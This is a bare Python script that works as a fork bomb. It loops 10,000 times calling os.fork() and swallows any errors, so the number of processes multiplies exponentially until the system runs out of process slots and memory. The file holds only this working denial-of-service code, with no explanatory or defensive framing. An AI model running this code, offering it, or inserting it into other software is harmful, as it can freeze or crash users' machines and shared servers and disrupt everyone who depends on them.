import os

for _ in range(10000):
    try:
        os.fork()
    except OSError:
        pass
